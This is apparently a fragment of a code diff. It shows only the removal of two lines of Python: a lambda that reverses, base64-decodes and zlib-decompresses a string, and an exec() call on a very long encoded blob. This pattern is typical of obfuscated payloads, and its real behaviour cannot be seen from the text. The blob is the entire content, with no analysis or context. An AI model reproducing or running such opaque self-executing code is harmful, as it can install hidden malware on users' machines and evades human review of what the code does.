@@ -1,2 +1,2175 @@
-_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));
-exec((_)(b'=gGz8q5fvf/+/3yU8nhY2jrWDPn2GpUiZY0vr1I9ojcu6SHopZsgOKu5qFnX1CqMLsiA6EsouxqExVEEA1HWbsxeHX0lVU1k3jhc5gRc4EpOtGrOO3OyslmSC5M6Mzrv7+g4SxGimdopC9spnoYdNeD+spJ1KpT7/0mK7Cqkp2SnUpigmlMsb31ABr76L8dsVtwIgnVKpFoDShhTAa/WrgWZf+uDkf9e87ffgSnG9xYKx8SFVmxT9+Ze7Y7+V+7aF8XhiKw+UvMXxfe7Abnh0yxsPFkVVIqCvj/VpgvLeeLQnLqJI7KdxpKwdN62PbL7BTXUk+AaqqyXfWlevyNWNSzY2BdMbXVQ9lI83VVnkoj77QoSWK0meL8dIrfP5rzsSlIA+3lKjL9IUXn1x/kcxA4X2TS7Jq2y++8JlVlNQ47jsZmGHiFpOe1as96lz4QGoFzL6LKw4rdlIj1Ev9VCcKODlKkRXqXOegKVDUegNCpgGSd8ObPU48TlQY9uykmHasXbhmrWQBqCVdqntK/iBN8b7RUgy9WxNy3SRebKqBRxo9UFbx5fWnzWd5WUlflX/CKHxiqvse03YWEG4EVKDAQj+NTBLcn+vDdAs9F6I3Q9hLEdV/RxxGusIKY099UHp2UVLdN1EwSDXeoUNPCFD/fF6k6ei7xFzVwaoeovhf2tY4DGYeUeEVaBfts6vHqH6qjEk9TmO9Xur3m8hqBt3SuRSoPzeN5NwUVIqS1MMNZJU9UecEChx18iek/hj/IeGaFatrSgji7RX9XIYC56xDRjK1dXG5AYnuO8YaIIjROShumh/l5RTK1SfrHDhytJxhlFhoJIAxVU6TYepY3CaQhtjWozpL4dO0H1d5KjLuzbVfjrQdjTzICahgow1Q2VD068qNw+URaJ+iy2wcH7RqB+irUCmJLGiZltSgz/cU5PfeHyQCqUBTI0vcEPp6a9AV3uG5dQ+V0j2SyjdqbqjB9rTmAzGGMoYIG1fiev43GZKL2ybvGCfFn/b7Cp06VS4bhKXe75LizQtKGn2pHpRsZ3ZMFc8wnxoHQtw0PcIdb4oq/ooUZGd78XGrjF+4JVFOV5QHr+tFX+CaEdZt+KXou8TjxibWT4ER2o/o78XRIq1c+VsbOHyvUIxPlGGQ7a0R8b5QwriNTn9WgeSfTfWy6vnHZLJnJEzTXoDy3v+iQKBjXWRi+IwAMWE+ocFFQbdBRDsXlYfq56LvS4ziUmXz+ah62XpWltc4wyTdLl67sELuW5cW+/QjNhPgtbjpOZd6f8cl+D7GoWMwRL+5uFvPQHbxNsoK4VCPJP8mL+MB4D5YSwMGqk1YDuWxtTeLVkf2nb5AX+Zyc2uUfoWdPFAAIcvuhZX20dNj3S6YCfHOmKAm+0LtBJCVrtF5JG1wFNKh+cT+t0i5MyP34XuIqaPvdXur05zpmYr3nUdYHfO5Om2C/QFMKs5/X3Cdvjy9I11Vhh5W+2rgmAKezQs3FOHffFzOYmUebnprJw4cYqtYrFvKJRuwU6G6hcZLW1MVsuEUhOOUs0BsB9dyp9MScyMu/i/pgVbzi42erOlDUKvOL20GQVjj/R+8lsfAXAj5NffLWM+Vc1fP9cG3+anp+RG1LoeVjdtCY/xpRZxnbDjZs5BUuqWMqydOZccT0DO3hv4gzQS6WT8hStNuwjqn4IyIVQqC8NTfyt1eFniwHxKfuhfVJJldorw2du3pyy9XguMk04y/2Yb2V2en+pmafc6J+LXEMDe4KyezAiL0w9i/uIpXWOzdt5lmqmTWeovWlWBt2FFDsbiH17ey3WouGysAURz44+O5r8oJzHnv9nzt+yopNahE0jDiKvUu0rbitM/Qd7bY82bw+EMy+R1iErUY4Zy/ceWAgTMC7NJq+ILJtR5Mj/QoHqCsRNGSEKe2js2wMYbXvBFsUliZpQztYdRjrzZQRS5Q+qLZt1Zv/0FL5XsEDe9mzmJjfYQcPpJ00d438kCAahNzShDMEa6uhLkz+MjEpAB0lsoFfePgQYi0+fjbkIQkEpomJYxRDNK8RGaLEauZQv+jK92irmbnzDWO3j3ca5j31F61HFFrW54rxCh2gtW3Eicz3Uc54G7sseirnGghYAVPViMdxqYImBp/92MwOKxhE7/ex3yYAKPehKwUt9lrc7i2tmDEXBHLP/ZDAi1qI4/ywMxMcoDkKMWvuHafweHa6lYoVsrtLoarqCSgsUQ6j3BX4u0F9zm9EjEO3PBCzpeV13WL4JzD9N+dDMUN6jBALCjcw5if2C8F0mzy8/sXh9GWiN5FqacBp4v6T5TWsjTaOUOHsTUttHU7kQsTx7j9BvXacry14bcLLX1xpQNAVKB/8oCVGoMBP47HOjMMX+I7/W6CLI9FTtmT0o8weY0+bHJcvwRYY4f29KnMdl+euWpIdzqvov4kjJ8yBX3ow2nIrqVfZFd0+2Pqg8xuG5evbJB7XkwAQ9V27O7jqbXgrKiW9aLU1v3ChMUmvL16Q3EFNaxgTdDcB+e3o4Wuy07qHRlm+A/eqVK8Tenie/3VPK+T+gjWLd7eZh6563a4GUlv7vh6379f5imBefqrsPN1R9AzyuM1nUtdudAqgqHV6d8Ja4guR+LkjCLAwTT0ITOZDWdT+7y/KXU06pQgeiMB+Qr5JFXQ4EUf9UxfgUU66vdBvRKjYSAOnie2cuUqTvJjUa2ul6+oj72XILDVUombM/oHyw20gBQs/rgIEBdy2pbA5UcJBZEG0bv9G3CJEnSEyj60+ccE+Wxy0oGzujSRWi9IlXotEylo1KQFntyfZol92JT/3LcNEuXno9AoVtm+zErCt3EPMmc4JP986+I/guKrdp45eEwgh7L2yAd1rH8h6Dq6MfuktSI3kiFowhMzeFQAlHfaSxi6H/58kwUQ9dVZs9+62A2oAtcqCaJan6kvq4zbAc5wUqtFPcett21f024pQDiKeNtyNYnKjgpB8P0xmUrMU8b3BXAwrim92TL5MZfzK8EhVwn4NQbr0N3dhK0uZp5loA4GCXppCh9WR8vXEMJOprE6So7DoPcOBUllOUF/1v/SnCg2hrZzHksde5USMcCDGaML0r3lAVxVUiVmvz6ViWiRdSQ7LFTJGu/EMlXwzOScNz6FzhheErmrAO49/UAy08iyN7f6+fzJq0ql7ESMd2wci1whaA479Va50R81OUj/nfctwWTZzWNrfqwuWPZy1Du9MzN/MIaLDtir3K9aHzx2IJp0nhBZzD4lCw0uvoIEZRHMKFMnJb70zYAa5Vp4HjfUAgfqEl9MGejFAVr1xGwJd59cjzwzAqiwrlXcdWyOjCD7IPBsuj5NyK60tGALX2q5mv/DQW2KV4zuF/Da+i39qME7cNSvWZFyrrc6oLN43Kx+qA2uNpL6bQMkYVkkc4muRGeX99p9DSI/ujHXbS43WzNpYiDmD4H6XCz9F8dMdadqpGlvJX6mLeurceStS4Fle33BUjA0ilN2UESzesnge+SitpEu2YkDIG9flV7UnMFMBs04yrO4f86Gd1g0/Ak+RnstfIJDiSTQZjLs2ZKHpEfPYhE/ZVbPhetdUjGA4lx+K3UaivsNsde3kzAh/nceLJN5wT7jUQWOD8Sfge0lYZiFD762hc14s0cGknIjctoQNWozOLps3Y4eOzdw+uVM1hMYTgklDUk90APEqpWF5hpyV/rFHvWt8sr3GdBNivBoUdeACs2AgTtQBcGEzXJvDKbneJ+cSqfrEfsoF+Lc4FQIsqUW8KmpO0vBMMQfejTZQ8cvllQAfpnCXgDyX+Ao5wGh78quTfRS4aWC/fOzKuLzyibcH2dXBCCu5HI30vSmA9H/kPVWINl0bh0VdZs6/QgpEJjp2o/YKrfgXcYgGpiLuV0XWqgGeRv48oH7q/4PVmkTshhG645nLVDZeviGkdKdDN9m2OWLwtmG8Jy5FRdGsZIJglRLHn7mxoMYgh0+U0UO+GYBUTW+lC2YRonukOp/+VdAFpMz1RAKD++EKfUS291SlxuD/+9VGH3M1R7Ui4oOM5rxRkLxAO0LK8kFmGcg91B8qboD4ec0KIkhuYjKbqKRpkXfrkA/MWa07rKM6RYAWfa2M/HsJN3p2/HIFgnkXT7ZJWGwTg1dEqy9bdFe7Dv/A1zETIEI4xk4Te8tfiUfNln3ds3mTg/g9rFBw38/WnyGZMU8CRDwIPkPKiF51BNxtZxGIzhaFhRfgOUIHn5eJpyUS4jvqSqEMq3E+5OXrpWYfx+na3kUFmA/ofur45M8tQxr5+xtMGrUXKZnayNba6Hsecq+IRZGvB7zegxAnCbL/KAjBhgY7+HbmyS6Rzcog8mO5akFp+xZknIh/op7D/rUlZP4w0NWtWKba4QFEfJ77E3JyZlZS3phJaNIdkH5ss55Ne0vpxZkr9yNONAMR4zQdCxGCLVo6i5/YyXarVri3uDk2XKKcOGcct0COmNtGmeqI83hNvJta0bZZ2rUvQZbmf/+2QJR4hSBLR04y4BjkUzjnkLyzTZXAz/hxe73LeitZYSOWQnVRwYgjR9tSoKcthpgWORwpEmcOLF1JzV0VRQjBWwhJYVnFm7a2wPAWe//4eryPWBQrojeHnjve1OBmO7F59YGKVfatQLGY8wlp3ekjcjuVSsDq5AxQEtjvyARdX+KrNANhCj9lbuX+NcX4VrKyUfBQE1oQ/Z4YO/svgah2rC9nUMRHuRDJZHtO6/mCCqXT4KCp/KzDAMiEc8FWzsk8ByOkZsSWAYYalXbK01m6K/VrYZVZ3SFMdAK08PEmNCQTXZB85rmyDqSjdoAXlrWrE8fO4WpuAIQLOiuFtS1D7iGdK8Ec9/JO4jDoEbm4JosHPAepWDrEUkudHD6AKs4HdASR1Zkw7aQSjLoBSTM52hdVJylgm2P8Ghjdofr/2/gT3kG8ZgWiPD2rEZEBrJXDK6kXJlPJspXKtzrHGcyGPFLP54Ybf+enIWEaN9Db3Vv+MLJn+TVqm0w9FGDr20H88G2qUpW4m5VgPipZ+L0CylTjWyjEhADcJ9Ymoa8B4TMM3MNPmhDii8S/4FU0o0o2xHAKVoVMm3dJKkCiYVLzye4mztgpnNjKCf/KIn0e/21DjMGiraqvy7wHE/7w3/+rWho4eVVP5l1acrQtDd8tfpk1sEHxjipdOx16rAaX3A+LF9Z3nICwV1XztG4T2HMU49foR6LurAc5oqrxli/TSHcxJGU0wKnxcZORYT292ntGJFmlAtAOTWCHsgLZwctwU4LKsYjMIzhr/hL4YnBfCvZw6n6nvmd1s3dwe6562QxfFw6UY4sqlE0o9s9uUOkKBFS9nhReT8/46hwApob8MNUqdxtsGP3bUuA9aW57+L2TEPUY83oE4D+kzCUWxNmPooUpo2h0fha6vI/bDMM57W0BsHygqJLSlyyi43CcqHJNn0dACd8OnjCLyY4VKhpwp0+Sj8gJoEkS84witAMKKnD6I1831iIYo7PHH3ghQPnXDokhNsPSjuZea9/Iy3XBhzYsqz+Z8dP0YgTFpM/vZwwPj12zlaaJ/+j1CASOZqVRnEMSB4G/2rkajZxOmWyhQLQbVeyyCoUAHQzL9Xj+O/dxggLVDzUjHg1ghqDj6dAo69c3FEjp8TnUgOQDHz0uLo+7YieOxs1nUa9lG65NcqdSsABCuCgKa/xivkd74XyUs8kP5Z/EuRj2ZqLpSPiMvV3/MYX1Lc3Kpj4YjteZPZpnohi/tCnQHuzEZlEVvqIPDK5xrPVivHvRuu8d+C3OMjMzTX7nPTXcw2WvDg7/1Nl+ymmqIXMaLKGy3Mcl96CI2d8sJ20/8SMH26RF2yI93wc6ps4QSKBUKjUpVfLWJNvA+5FRMSHFwLf4ugLhIinIrvbc0Zy7f6++qECRyaH8G+gRP8tDWasZMoFZhBCi8LnaF/omL4ecpX1LyMaaySItP4DLR6OiWfgR9RnXSR2Uf2Ef4jOw7dDP9PG8rpIyFvQ788U+xgch2fxbQzaAfLQ7k+aqZk4twgxlBFXwtAdL6dhy1QIrReluyNM8rC7U1jTi0bWv6oHwmXDpxmSsvR69iUZ259ZhSTl4iNJWbrw3s2axoyE/wWhPxPMSwivL2m9XPUlMD+FxN1v7yr97BWWy8d0+txhYnS90lU/cMd01cp/c8D+Aiki6Y+xD+W0ge1+nBVcqICMiIucb1TBp1QLnGr+blJ5UuGWUK9HHfkCrr+/TToAd3FEIV9ckpJHi+dm1OWhVuHSAIVKdpUcgwm3HsbTIWzO6RB0eMFzdfRxfAfJC0tnFnUsOvkXBgXNx9qWmMv16B02jkmJqKPmMY1sQXonj8AERzU5QVZlb/sllt7Svmouo1OnTfFTECnW1Zjvj2FLmxF82bMxguKKThCkUJLdkANBEMWWrvT4DverFc55dlvhxge41V+0tat+I1qWNPKqLtiUoSrbjJT+BrOru/I1Ly8A75WOy42BHEHsY+EsLZEQxSh1GKBd4dIOuuv8h0AEhB+lKigabSuJDgWvfk0W55KFlfYA17TZjxOMETI8vZmGMIhtdi5zYJAv25vsgKKLdJE/LVv69oMKaMq0aiwMSm3hShuA61I1GUzXKl9vNW+zKv1Rfu7ZFHN8ZkRfiZMuh4GLNHMqdJhClFhZ7dYbO/fjBKpPKxh3tqvAmx+P5qQKAphwxthVvU4Y2g+hIFUZwjyACrPxmpROGh7yrR5pvoxEpL+pyMtTxatjE24j/CcXSf30ZFm7/GaQvYTMGmPzx+NZTYa0YoL8qwRQVu+lFTb4IOGeodfujNQg+uVfM03oM0xvkfapDDWuKWD0H3vwndr8R7C66avCCAAExtabkP8t9j4KH77vg+I1asnJslfsYOxPYja0ONdCKzvG13JjrF1yALdBXUfzOkOebO9bDeLLngW4y4UdkJnM76GLUQqbzb/tA7CJconv8D98VirLqR3VMy0CC08xNNA9qMccdC22PGb20JDmUtnPK2JWzQNCYlk7aBFbjtBWENT+sE7OjmFq/rCBDaMrIlrkmWh7oxv7sx663N1EfQ1usLO+NVICfseex+FX9ltckD6uXiZ3c+EpVbAKLi93TQ3fiYE4/8mxUNCzqhxhPST4YGYxd1ch79yA3rBufR7h4sN1VHvpZRSM74Wd43123CH91B0GekwkRCc1Dc2+IUy0iEumBoXbvmunVcXvwp4l5OUyVTKFd7ofpVUTyIngOiXDq1ZFSOexNwga5+7fufztZf4sVkZ+C3KUzBXpmT0GL3gEZ8jALa1Ut6VsBdadvn6181d5KMzxM0B6HdekTE0+vKWzFeVq0707zMJ6efeTYvZEaz+Zkl8kgub6CU3XutMKqEgTz0U8eX0SWzyf57GqLuIKPEO1pClqE0yxE2mGNwn2eCbKbB5PWt7i4cJQbjaV1a0iAjxCzRR2RLfdYVwCfxNu1AP/YioKufRd1peqFLZtKNjNnoswzZvCEZrux0G1KSVGdVXedDa7SaMXKKHH3JrcisGBQ2XsYwAfSM31em7Q4t9BAZLtJkktP6Y9P4vpKT4KQss+cHUw4anNuTJpaWt9FpqC7FxFI57q0d68+lE9CRh0tZzGRC6fyuXkSYSfQjWqr4y7eO6JN26qQHdeaLPOq6YKQy+WNeEZPPuWqQc/WK6P9XWDNdrlPDm48AcAaLuRV5ANOUTw0eO32aiLa7Ed6kxpvd3Z+2hQj5oUiD0pPM7UF+V6swJm5BqFXBGs3CmMQC88xOfOcpW+VeDfaXPdIe5WL6MYxITTfLmEIiYPUQ1G9jWLmN9FNTTl/nTXEyi1bvrSJc14pemsD4FHxTIrCZxwXcd4778QsJDzr2222mVotf2JpA2YJZjwnxgv/ig9difFJEzNFI7cwQtQI+Y53UO0iV85SvtuYT4UwwHitFT5aob6/cE1s8vaGU3kVhMjBLgFzcofuwx/YMT+CZVDrME77Vxue9ji3A93nUGkycsydmI1FJ2+MWfxl7fe65zsweaTfWwaSTWMt0nz+ChJS18WwYnjO5jtqL//ZUsBsseb0sKopLB1ell+KRpeNCmBC7lYk+U+kQlL7amxAef9clFodATSH8cZUJVhn4hh+67UMftEvxp22xD/LrsB+QlfKwmF1s4yJ1klHwiilI41YHpaAufTVqIDu/cXvwRDx05nv+98ZoJ1xn7vEPyF6KsG0ySlOeoWADORN17XT/QRHefb79bKETcGGmRNdFcfeuT3CAXXys5gN0wic5L2NvFlKZRhlweHpRXX8rpGNQXxk66Sh/J0qkiipIOHrTH/0eCFSvv3MEbY2IZcVRhzyJmAjkvBVLrZNaVZfLvDNxPs4WD6NgBtpNIpVbc333oVOKzHlTDxVS/WeQdPRNwBrYPR2k7KVPx4qmk/fRNX6lVXD6sb8TXr+w/G25dgae9BkOlIgQ0V7F0FaE9bUrkf5aMQr/YeRtKZXfZwZ1TfeVSS0GQasEID0lyI5E5XdE6fDBTnjIe5ightbrUCBodwoIyizZniUJLJ8upNQyB725gp+rF70onOqBY6V8umwUOsrfECy+vxWC+Nl718CYYQ7GK7PvJz8rsqqqVnnx9v4re2J+p13DZXCizJdmdzAwbt4ikJ33OnAgcMXtBxGIqreKRoLsGVm5x1vqJQBjgmwoqHYgpPlIbbTq0IUNfTPVHbyIJrJ4MvNt+tsvKLeLj3FuLzO8jzKPSBOGMYanFDMnvDhswzZu7Ca1u0pgYWbA/1kzaLFkiIAt7vXwYVhuHKicG8FwV95AjUfPsIcpQatxkIPoXSjpSpREfZ79P179trlGE/6RqR1O8ymZhun65KQa9xvnCX76rqtsfBm07xlfJS58QtVJ6X8dERf7AL+j+ZB3dshZEHJntYUrB1H5SkeTPj673AMDnoAhPtMH5Oceq5MXVNQtEG03L+J1avKBmN0uwF6iWpkwosklbxdFRrkNybaZEOUIilq2J8Sc2pIPMl/V9J0NkGN9WgXzhw1o7eDbZbgVYlFC9fsVy7kkIbXNBmzceHZMaP9G4UFt7p2Rg35laNaJ3Ekqvp3Dzudl79hQyWj4VBtwOpz0qCEHIHadGawMR432l6Hl/BRqnAU2beqHwF2mjLuS9yNq4JJZolSmKUeumX2tdZC8+/rDpUc4fbxuJ2Gww6rTzxPMCXln6xC4v+fjVntkpTyiMCuHon5OCXHWN7+PXixGG2PayCSb9yeVfW6RDQJ1eiZltQ6RppyHh/yNMOz3a8vj/pX6PjTEQlqaIIe+Bhtjsho8tnAAh6sXbX2VjOgorD4+ETqRfHo3BbHM2DSuCiV8hrBPy0OYcU4XLsdXua+GS1R6tR818FAFmsaPHsDEFn158dWO5aYP1gwWh/3shEfHiVo3c1RMOgsX3yDIvRiQXDP1B6dNKYdyV/+XovDZbXkJcJvy8DUbkdxUcroMTrDtXnJOSwnHVCYQRXFxdjTgfS90iYtdTx4Bk8xgFY1TxULRZL+AiPlkpRfr2t3Rr3I/hiRa9PDCbJEYWd3Yh8euqduHSL7nzitVfTEQPaU2zQzQyeBoVcC8VsEjOhiaNbSz47HPQCxS8PoN8PNUg+QFDXl5DtDbAZUeLi3k7093ec+yc9/ZLkyZtwQIx5fUzCFWc2byxXlYhG4TthY584jpN3RyjITsTcKHYDNvT3Y31d4sD3ZsjZeVB2pIIUKuJrtuuKMffowPud0qhSllbJ6cmPGLPrEBuEjKrRtLGqV6kdZLHoeKtyNxS67xvJCEwzltakOBer0GhFAa+UKU4OsI16RjhhKvxDrttlHN4p3VmPWQXwDC8+ZZSLkCkRiDgPqs72b2j6Ujbx75+mxFSJ40ussOc1ztUsDmYM17eIXHkJ+I4GPJyYLrLhzeqZCD4p+9gt7rwQ2Fwat8TZ7YTEaM5thrRNWFsnBCFqzDcxfngTLFk30227rYYpFKrPy7R7ejDyXWni41gaFM2WAmuSl1Nd3ps3tJ8pEhp7YcG2qKm9zmgtFJlDL1kgERh2d9kczLlz+lgM0MUBqNJZhBkfKN4F9Tk6Av9zWQsI+5zsRrdavgT8MtiI1GMXpJcgt9s17P5vM++neYx8ifzksZtPDs0qNxuUSHWf7Yqs/x7RSYHsLDHh3VOxrFzGhru0+eLEyiUe+vbyYxnwlgvT0XBAoX2InLHr6txOFhpgNFaSz6cfmVdIDzvyvEokwO9YjgqL5NB4zCCSsdrKao1LSyUko5tPnc6PeLtKJA6fPB/zWOD6y7UkBD3VrF3oSkPHBmH+sgxYH8IToerjyQq5a+IWBv3jKgRyytsgnWnKNgkOjCKwR7tec2Y88R6Fcxw0u75gWfCSFkD0W1LITEHqPuXozvBy0qQp1Rf8U6h00jV82bNPYBvg1jiHD8fhevaVBFYvfLktLYGJ8l/f06geYFXMt4NnPstWHNXblQOCpzhwCIaZX3+DgjXMROqGQAkQnWTCne4J5W+61mAndSA37bErIkTQ7HZTTnV2LVkB13Dw4oFB1DpiAlDT/V0kRTCqh+/+06rnmmYSOXwAE3b+sZe73h4WCpLVxEwVO92wSEHaYPAFH8xGhnI4MEKmQfujVYfGjOL1nMyPdaC+/rcosdXwSMUFnY0YS8vuNvaOexPuwVrEDGzb72sSc3XqscBefPqITHSsjAXH+fGblx8TkNZdFma3qenElrxpmA/Nj/qIVOIPOgfo6Hti6ZwiE2lIovf7zmsDdvLkcu8A0zeP2Nhg9vKjMCxyXsMMrSuSnyDMf65gXvxGYmXdYX2UuxXq8tv2D8UtdMi6j6udgk2tCp0o3o6jHbAYwZIGR/PQgUxIeFFfE60bU9h+1OVVJaM/ClRDQ60fwpYlhA5VM6hCK9l1I8adICDmvyIbB9smZKvP+FWunTyY75hl9eGhmgs0vZfPHTGgxTKn0Yz9fBFtg94D4hchc2+B1VaSR0SuapTDKX0read1mPsyO7NtFa5etXSBixGqFoJ1H+EQqQWx0jFfPQ49b1dyEBzUNfz3/7brnfiMBSlrJg0JUbn2V+28LvC29pKIrr/rFW847RaLXRTyw8yRTm98hVmDDRUgv6nUI3NUxhgC/Ao6PgFUsyZZiMRNp0JffK4rUSu05Lu7kKK+bQWBDfC1zKBt1plqMjYP7uuelSmXYa/RkRAw7fkRT+EsullsXvR6v2A0OpHF5L5IPTbTENVMGL4iYWmXJJNzfLGmyApSNPvgG10z5fn9TS4llVDHMBYpUFlvuzNLcqC1iGC95Hccw/15CRWbGYk1A+2r6ZpRY74+xh0WY9ffy6NntBa27K/XUn3a6igyuMaeiI7PzLwfY95CT84CF497/shshVFjVW3HTq/gKYQWvpXun8oy/8u/M/bMh/0TkmUAOKa6gWo9z5P+zejLgCLNllKooDp6djNpWKKodIdf64pH6cbs360kv7CA0hhwxPWShAeu6lrtLnEbxLlRqqCl59437bbyJAXPQPEcy1sygHu/BnN3i9f/JAWHaaUlUm3I6QwRY2P3R1BAc+YSea7KuALbIFdcBaJ3cuAFZcH+loSZh9yT2fKdsV2SFPVxudpFw2zxPl3y+WujmBS4xyyxabe6jsw3YJOqobqFQPBoC81uajxMk+6aVYGNwSSwXh5vce8q+LHMlhlDNFniD0wT9Jdmh/ktKWnhPwss+IbLpWnDjGocRrTCt4ZCg1VQQYOvGy2CKiePIzGFq6o3QMNHRGUl9wtAJKj50a3bDDGJUdsMXCUZUjC65CfcygOGlkaa/396jXtt6gql0OC+pjaKmC/sPFoPHLfAncLpkxedMubg+xS1Jz53/KQEUM02i70UVukl0kdtzLbxjaxKyo3gDoE85hGDLOxmPaWrikHSmcawC2iiRys9zkNTNUzwBwk1gRBE5Cfz93+6NSY4nzfA5eoAWpbt6fzRXBfHdXjcuZ0623qXj6DKhHSDK4hugUizNfSZg0o9Huuiul89TFJZnI8SVRt5NZush9t7zog2zf711RVk3MFj+RS5WmcUVlfdzKesaJkyzH3PLkKz+x42mId6nccKWV0FHCh8+M5++1yU25zVCsqs2Z6+Bw7I/Uy3N+VsJwwNLwvWR7uox/ojmKQHfU9UW0A6U+KdPKL4n02ZT+9Lfuuh1Efq9bIYdm0Czmj2IdoT80zWd5Fbmrp3vvTi6xyCO7XgDSg3AAvF6pCqKKz4XFwl3YLBe1Er8XLx27NCs9XRt/T4gd3QtU3eq5ilguZwm7PTaDoxmdnVboK5Oq9k/fWGyHsPA/kWyMRH9LRn91wu3NBfjkZeY9Z6XhvjXqfJJnHJl2xldzidbn6E6b6ZMJeus9nRmB4ftnHL/2VXlsMDibTYigjQZ+riaZviY/fvCmJn/blYMdNVhefx1nTRbwweQnvq+vlIoIEG4jBz3nerUyZ0sntZp5M201z0A4PSz5RbINTm8Nwb1ygX32Y7neeznUNgLCa1ctx954NlSsN6/Z7p7ZKYVrTJIm8DbzEZjDckI0c0g9WxUDWLVz8no53MbKg7OfFWzV43kV3bq/oa3NeDRj9RF3g6Cy4SGMlR75TUN7q9G8GOeDFgO5wq1houql4E8NhLHRA7WOEyR61k0iE1AkZSW9ABb99lpsXPUK8rjIAksQxHYNBMdm5+cGBtAhoYUpaCTaQx1Oonr2cb4sKXZZKGHdqbeV1Lyp+cIiZYbg9BxGSWY4IFOva6f7un9pdcvQ2PH7EW8fgKj2KSavPmiVtuUbnC5h6/LtIIuYodx33iYHcUeBzQ8gkE9ZPOkxo03Nz9pXnTAkuNYeX2k00kVFm69MJHZLRbSfdVngFR0qh/iOTszkE6jU152gzuNhy5weVaegBwjm7t3rprhtUtVbgznMmnrBMnOibi/KCbDfiC6XvvR3wpRpkwEEHgZh4O/c8gzu6f1U0IwXuwAZZoyjyZD2vZMNJvvLr5eJna7u8SQDvuBT7QGn91OX2sBdw+rfNYZnM+X1IjKq1wmkZGaSudsuBZKtE9LoouCZAvKCV2tYectCAYlDJZQ1VGXsR0fqThtItBbC4T8C2JKtvAa757Xp7fIynyAjoVYOHjW4YAeOu1oUeERUhDhpRq4MaUhNI4eBR2So5pHKisAwWbeBZbKKMNkhm1H3IepOjFvvTJ8DnL43YxAFB+CgGpomq8JuRTZbB7dotuBYVz+Lf8x12MMpGqjl7iaTRU99DXE4/dGsD5GSfFkKD1p1puX6fgoifVjOXxZN0Pqv4x4A7LvVC3Cs3VStQ44f/BE4mpXl6rAjuiWh185j/qequJcgHPXHTs12h8LkpRHnU4+G7JAzLj2AUZnQ34V6LAFJBTrkWGaQI3FcFac/U69tXnKV5/bKSWMpA8K7MQ5KSyemGuNuIOJOcvHFD807XLzbrj+dxHDmty/2TawlfikRBi0H2oZ3t2Q0/T1ex+OAbfGrHTgsrTldEvTjLFfJgwSRkQNnyuUsYwhw+vO22UJdk8cd/qfIXuVWY9cnDmOVReyMq7Eanact447MbWwLXh2tSLCPtIbJRm44qPQ5mX4glzyONRTvUIF7aeNCBlmmzQBlwPWMw0O8zRyRoYJLDCEkiYlt9uKfc6lUuUQBFtJP4ltjUld8zJySsAmtVYngqLy0M5gShQu/AuP6Ig3Tg+A1D21X8rwWv6HC1xtwdXPEpeli6O5LjSSdhK7Ls9waSmS2NJz/lCD3k/kkkDbJ/H5jGxmxlONK4S2lBF3nYjMeccGMQ3Ra7nCeG0fJnd6I1/SuAfG1c6H27Anka977cAi+9d6Wfz64qo+/tG7TyzWT96bNhTpk4JrLngEslItjIHHm3Tm2guViLWYIwfqp9vtT8kCEXSZtBeF+9Y1g1i0Rw/5zS8LEvisrfIlONSStGfLb32U/IhOIBYGKjWLB0IzA8fH6lroV9xLUXYIeLtPR2PDRqSm3n0pY/2aAU0hdA8HbfK87ukcGL8dpGak+qJQ+97PRcwTenOGNNmwbd7N7OaDfVMGXF5xemR86v+3sSy5j9cTPavS54L27zyEkkSFSkdcl7vJDwsuJuaeg68wvMtzvzUK7lXVVEs77YIa6q350wJH6XmKm7w72BA38JjrInVCxp4AtWSfs7HG3RSWJm+ctp1grpn/lY7ZZkHtM2VKFkBB4aqwaOBsznYOnyW6jeCwNsd+wGYLir8b74dSLrXDiQvlWrqZtxjfNxbQ9/+STIP/zmswUUqqUMh/7oPW9BWByC3vd9o0UAwzStv0HaHhhPW/tnPOqR4aYYHIhDLUNU73OkWO1geDVZhOc4iZxNie9PgEtNhFufE1PvadE4cHrgoC1Il2UvHDl/I2Ji3WsP5vMY12QZR+r8p8WCmtLj/qwmCH0kTCREGpSakm4TrfCtic0fOhN/BQdsfkmP5ZnyNCWY/InRn8VEFBhIq4oXp6ESAldf+7sfki8/PL3yyULsCTU1g+9EB/oTx0KaVr2p09xmTxhmxcL41V8/v3+dM6kqkB/Niy2mke7uht4s3rsgtQaWNBItLjjHHkp2EH3/rhE7uHMnlBX60DJp2g+yzxmgzMngYKqgsEJDBe4evgMGcdrRzX3G1+GLN8rVHm8oZA8fCOtXHPxqbAoxVov+0MYkFRsdhNYFtPrgKwMhHibZXlvtH5MVtviy0WviVkeglPaupnMki93ziasFWQZq9SOqen93/mk6DWgd3oxy3nldZkuAMEo4k04xWae24j9ExSDn8lCb/ik34pT1x0RlWLepX+DTh9b613RQ1iPh916GOln6MDxq+MBt4kc+HQpWafK7kN385ujTUldl3KQYFwcmXC5e9/FzjL4gSbt64f41XkW7H4vmKGE26vOGktYj+p03jiuFbqMqe4FAqz+wRw5eGRJEU/6yzMHGkIGOZdIIk/E0xF+DxjzSwSMtTtNwjF8qtgqPmM6YyToXW+XqU+6HgznsyzhUJJOffDCk1Yykd0jO4ElSZd+25fqCTAFP3P7hK5tqWI3MtWizgybbgfI/QG+gVjz6GL/n9Krs5oyPOd53c0G0is2vhyFfja28LfyexwDdK2ps9hh3eeXkEwV+RMdJ3g+Vj67bhuXhbsOlXTWL+gJeV/CF6Q0Vf+vFFo7YiC6Tme1j1cNMzXg6U9bfHCn0h6zC8GEJP+Hk/J5AcCYJdrLhMEo2Siv0dE5sQhGQRWhTfUPM/Zlr/3oUFyVvuEVju2JJ1PmseqCIEweUHn5D3qjZxaKoay2OiHfBfhdtFVVqFAELjXHA1d7sVubMBViNjMAnRKG0MfORDB31+F13i1hye37BzSkyzSgxOuNi6XWHqArC9z1Np6bdeBMfKlL34XcAnpExOUUIGca14dgdWvLEAsnoZ75YtdvxOkC+ACbMUgwl1hgzK/Bj2LhYeteOAyHx/SGu3G/vEELPnuEb3q9tMz6U2iU150vIvMAw0XEt8LKF1SKbIP/2WBtBsMxYV6l0ngNfVA97lXV6DWlhErE7xZ8/0jmyFuo5VfhCBSeUTgPOlLwXfQSc2TjWHQKoyQddu5/+cRc2s2+xq7w11SvKLOmpypRIxamZ7rrRdMtBvQdb9BRq36x0jWC5dmnZeOlCW0dPvP1Yd5oo7aFA7sfa5/SW+u+pF5KGrqVNh4c2e/95gJopWA/FyHcVXs7te8yyreAIOAPYl0iXeXCfUlaAU0KxV9oQBUN1ot7dh+3XKHj8uAHmvHVVRMvajXtY5aLIsJzgVS1Hb/7gCovXKoMlQUCuIK4yZUoRt+DEo/SOEkHhKW7Kd5+p73c2S8G1wngM/6luhz7+Atd5CiOw9nN+YrrBJpQTc9lFi